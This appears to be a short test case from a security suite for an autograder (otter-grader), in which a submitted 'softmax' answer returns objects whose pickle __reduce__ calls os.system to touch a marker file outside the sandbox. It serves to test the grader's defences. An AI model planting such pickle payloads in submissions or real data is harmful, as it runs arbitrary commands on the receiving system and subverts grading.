# title: results whose pickle runs a command
# source: otter-grader (results travel as a pickle)
# question: softmax
# stopped by: values
# %% softmax
import os


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch @OUTSIDE@/pickle",))


bomb = Bomb()


def softmax(X):
    return [bomb] * len(X)
